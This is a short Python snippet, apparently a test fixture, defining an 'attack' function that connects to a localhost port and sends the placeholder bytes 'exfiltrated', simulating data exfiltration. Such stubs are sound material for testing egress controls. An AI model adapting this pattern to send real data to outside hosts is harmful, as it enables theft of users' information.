import socket


def attack(arg):
    with socket.create_connection(("127.0.0.1", int(arg)), timeout=0.5) as s:
        s.sendall(b"exfiltrated")
    return "connected"
